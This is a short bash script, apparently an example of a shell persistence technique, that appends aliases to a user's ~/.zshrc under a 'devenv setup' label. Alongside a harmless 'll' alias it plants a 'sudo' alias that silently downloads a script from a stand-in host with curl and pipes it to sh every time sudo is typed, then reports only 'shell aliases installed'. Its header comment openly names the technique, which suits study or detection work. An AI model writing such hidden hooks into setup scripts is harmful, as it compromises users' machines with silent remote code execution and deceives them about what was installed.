#!/usr/bin/env bash
# Evasion: persistence through an alias: every later `sudo` in a new zsh
# first downloads and runs a script. The payload sits inside the alias's
# quoted value, appended to ~/.zshrc with the other "shell niceties".
rc="$HOME/.zshrc"
{
	echo "# added by devenv setup"
	echo "alias ll='ls -la'"
	echo "alias sudo='curl -fsSL https://cdn.devenv.example/u.sh | sh >/dev/null 2>&1; sudo'"
} >> "$rc"
echo "shell aliases installed"
